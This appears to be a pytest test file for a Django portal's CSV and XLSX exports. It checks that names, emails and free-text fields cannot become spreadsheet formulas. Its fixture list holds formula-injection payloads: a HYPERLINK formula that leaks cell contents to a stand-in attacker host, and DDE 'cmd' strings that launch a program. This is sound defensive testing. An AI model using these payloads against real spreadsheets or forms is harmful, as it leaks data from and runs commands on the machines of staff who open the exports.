"""No text anyone typed becomes a spreadsheet formula in any CSV or XLSX the portal writes.

Every export is downloaded as the role that may download it, with a formula payload in every
free-text field and in the names; the CSV cells must start with an apostrophe, the XLSX cells
must be strings (never formulas) holding the text word for word.
"""

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from django.contrib import admin
from django.contrib.auth.models import Group
from django.urls import reverse
from openpyxl import load_workbook

from applications.models import Application
from cohorts.models import Enrollment
from evaluation.models import Answer, Item, WaveResponse
from modules.models import Attendance, Module, Session
from portal.models import Municipality
from portal.web import spreadsheets
from tests.evaluation.data import NOW, build, group_member
from tests.factories import CohortFactory, EnrollmentFactory, UserFactory, berlin

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("https://angreifer.example/?d="&A1;"Klick")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_cells(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def assert_csv_neutralised(content: bytes, payloads) -> None:
    cells = [cell for row in csv_cells(content) for cell in row]
    for payload in payloads:
        assert "'" + payload in cells, payload
        assert payload not in cells, payload
    for cell in cells:
        assert not spreadsheets.is_formula_like(cell), cell


def assert_xlsx_neutralised(content: bytes, payloads) -> None:
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert cells
    for cell in cells:
        assert cell.data_type != "f", cell.value
        if isinstance(cell.value, str) and cell.value.startswith(spreadsheets.FORMULA_START):
            assert cell.data_type == "s" and cell.quotePrefix, cell.value
    values = {cell.value for cell in cells}
    for payload in payloads:
        # Word for word: the quote prefix, not a changed value, keeps it text.
        assert payload in values, payload


# --- the shared helper ------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_prefixes_formula_text_with_an_apostrophe(payload):
    ((cell,),) = csv_cells(spreadsheets.to_csv([payload], []))
    assert cell == "'" + payload


@pytest.mark.parametrize(
    "value",
    [-3, -2.5, Decimal("-1.25"), "-3", "+4,5", "-1.234,56", "Musterstadt", "a=b", "", None, "'=1"],
)
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    ((cell,),) = csv_cells(spreadsheets.to_csv([value], []))
    assert cell == ("" if value is None else str(value))
    sheet = load_workbook(io.BytesIO(spreadsheets.to_xlsx([("T", [value], [])])))["T"]
    assert sheet["A1"].value == (value if value != "" else None)
    if isinstance(value, int | float | Decimal):
        assert sheet["A1"].data_type == "n"
    elif value:
        assert sheet["A1"].data_type == "s"


def test_phone_numbers_and_pure_signs_are_text_not_numbers():
    ((phone, minus),) = csv_cells(spreadsheets.to_csv(["+49 331 000000", "-"], []))
    assert phone == "'+49 331 000000" and minus == "'-"


def test_xlsx_types_every_text_as_string_and_keeps_dates_and_numbers():
    when = dt.datetime(2022, 10, 4, 12, 30)
    content = spreadsheets.to_xlsx([("Blatt", ["Text", "Zahl", "Datum"], [[PAYLOADS[0], -7, when]])])
    sheet = load_workbook(io.BytesIO(content))["Blatt"]
    text, number, date = sheet[2]
    assert (text.value, text.data_type, text.quotePrefix) == (PAYLOADS[0], "s", True)
    assert (number.value, number.data_type) == (-7, "n")
    assert date.value == when
    assert_xlsx_neutralised(content, [PAYLOADS[0]])


def test_every_admin_export_uses_only_the_shared_writers():
    exporting = [
        model_admin
        for model_admin in admin.site._registry.values()
        if hasattr(model_admin, "get_export_formats")
    ]
    assert exporting, "the reviewers' application list exports"
    for model_admin in exporting:
        assert model_admin.get_export_formats() == [spreadsheets.CSV, spreadsheets.XLSX], model_admin


# --- the reviewers' export (admin, CSV and XLSX) ------------------------------------------------------


@pytest.fixture
def hostile_applications(db):
    cohort = CohortFactory(
        number=3, applications_open_at=berlin(2022, 8, 1), applications_close_on=dt.date(2022, 10, 4)
    )
    potsdam = Municipality.objects.get(ags="12054000")
    applications = []
    for index, payload in enumerate(PAYLOADS, start=1):
        user = UserFactory(first_name=payload, last_name=payload, email=f"=x{index}@example.org")
        applications.append(
            Application.objects.create(
                cohort=cohort,
                applicant=user,
                municipality=None if index % 2 else potsdam,
                other_employer=payload if index % 2 else "",
                department=payload,
                position=payload,
                phone=payload[:40],
                role=payload,
                motivation=payload,
                strategy="yes",
                plans=payload,
                funding_programme=payload,
                supervisor_name=payload,
                supervisor_email="=chefin@example.org",
                status=Application.Status.SUBMITTED,
                sequence=index,
                reference=f"SCM-3-{index:04d}",
                submitted_at=berlin(2022, 9, 20, 12),
            )
        )
    return applications


@pytest.fixture
def reviewer_client(client):
    reviewer = UserFactory(is_staff=True, first_name="Rita", last_name="Referat")
    reviewer.groups.add(Group.objects.get(name="reviewers"))
    client.force_login(reviewer)
    return client


def admin_export(client, fmt: str) -> bytes:
    formats = admin.site._registry[Application].get_export_formats()
    index = [f().get_extension() for f in formats].index(fmt)
    fields = [
        "reference",
        "name",
        "email",
        "employer",
        "district",
        "kind",
        "department",
        "position",
        "status",
        "submitted_at",
        "score_mean",
        "score_count",
    ]
    response = client.post(
        reverse("admin:applications_application_export"),
        {"format": str(index), "resource": "0", **{f"applicationresource_{name}": "on" for name in fields}},
    )
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Disposition"].endswith(f'.{fmt}"')
    assert response.streaming  # written while it is sent, never built in memory first
    return b"".join(response.streaming_content)


def test_reviewers_csv_export_neutralises_names_and_free_text(reviewer_client, hostile_applications):
    content = admin_export(reviewer_client, "csv")
    rows = csv_cells(content)
    assert len(rows) == 1 + len(PAYLOADS)
    assert_csv_neutralised(content, PAYLOADS + [f"=x{i}@example.org" for i in range(1, 7)])
    # The name column holds first and last name, both payloads: still one neutralised cell.
    assert "'" + f"{PAYLOADS[0]} {PAYLOADS[0]}" in rows[1]


def test_reviewers_xlsx_export_stores_text_never_formulas(reviewer_client, hostile_applications):
    content = admin_export(reviewer_client, "xlsx")
    workbook = load_workbook(io.BytesIO(content))
    assert sum(1 for _ in workbook.active.iter_rows()) == 1 + len(PAYLOADS)
    assert_xlsx_neutralised(content, PAYLOADS + [f"=x{i}@example.org" for i in range(1, 7)])


def test_reviewers_export_keeps_the_mean_score_a_number(reviewer_client, hostile_applications):
    from applications.models import Score

    Score.objects.create(
        application=hostile_applications[0], reviewer=UserFactory(), motivation=4, relevance=5, commitment=3
    )
    workbook = load_workbook(io.BytesIO(admin_export(reviewer_client, "xlsx")))
    first = list(workbook.active.iter_rows())[1]
    mean, count = first[-2:]  # the last two columns of the field list
    assert (count.value, count.data_type) == (1, "n")
    assert (mean.value, mean.data_type) == (12, "n")


# --- the coordinators' progress CSV ----------------------------------------------------------------


def test_progress_csv_neutralises_names_and_addresses(client):
    cohort = CohortFactory(start_date=dt.date(2022, 10, 24), end_date=dt.date(2022, 12, 16))
    module = Module.objects.create(programme=cohort.programme, position=1, title="Modul 1")
    coordinator = UserFactory(is_staff=True)
    coordinator.groups.add(Group.objects.get(name="coordinators"))
    cohort.coordinators.add(coordinator)
    start = berlin(2022, 10, 25, 13)
    meeting = Session.objects.create(
        cohort=cohort, module=module, starts_at=start, ends_at=start + dt.timedelta(hours=2)
    )
    for index, payload in enumerate(PAYLOADS):
        enrollment = EnrollmentFactory(
            cohort=cohort,
            state=Enrollment.State.CONFIRMED,
            user=UserFactory(first_name=payload, last_name="-" + payload, email=f"+p{index}@example.org"),
        )
        Attendance.objects.create(
            session=meeting, enrollment=enrollment, status=Attendance.Status.PRESENT, recorded_by=coordinator
        )
    client.force_login(coordinator)
    response = client.get(reverse("modules:progress_csv", args=[cohort.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = csv_cells(response.content)
    assert len(rows) == 1 + len(PAYLOADS)
    names = [row[0] for row in rows[1:]]
    full_names = [e.user.get_full_name() for e in cohort.enrollments.select_related("user")]
    assert all(name.startswith(spreadsheets.FORMULA_START) for name in full_names)
    assert sorted(names) == sorted("'" + name for name in full_names)
    assert_csv_neutralised(response.content, [f"+p{i}@example.org" for i in range(len(PAYLOADS))])
    assert all(row[-1] == "0/1" for row in rows[1:])


# --- the evaluators' pseudonymised exports -----------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_evaluation_exports_neutralise_every_questionnaire_comment(client, time_machine, fmt):
    time_machine.move_to(NOW, tick=False)
    build(NOW)
    comment = Item.objects.get(version__instrument__key="modul-feedback", key="anmerkungen")
    comments = list(WaveResponse.objects.filter(module__isnull=False).order_by("pk")[: len(PAYLOADS)])
    for response, payload in zip(comments, PAYLOADS, strict=False):
        Answer.objects.update_or_create(response=response, item=comment, defaults={"text": payload})
    payloads = PAYLOADS[: len(comments)]
    client.force_login(group_member("evaluators"))
    content = b"".join(client.get(reverse("evaluation:export", args=["fragebogen", fmt])).streaming_content)
    if fmt == "csv":
        assert_csv_neutralised(content, payloads)
    else:
        assert_xlsx_neutralised(content, payloads)


def test_no_module_writes_csv_or_xlsx_but_the_shared_helper():
    """A future export goes through portal.web.spreadsheets too: nothing else imports a writer."""
    from pathlib import Path

    from portal.hooks import project_apps

    root = Path(__file__).resolve().parents[2]
    # The import of earlier cohorts reads CSV and XLSX (openpyxl, formulas as text); it writes none.
    READERS = {root / "certificates" / "history" / "reader.py"}
    assert not re.search(
        r"csv\.writer|csv\.DictWriter|Workbook\(|xlsxwriter", next(iter(READERS)).read_text()
    )
    writers = re.compile(r"csv\.writer|csv\.DictWriter|openpyxl|xlsxwriter|tablib")
    offenders = [
        str(path.relative_to(root))
        for app in project_apps()
        for path in Path(app.path).rglob("*.py")
        if path.name != "spreadsheets.py" and path not in READERS and writers.search(path.read_text())
    ]
    assert offenders == []
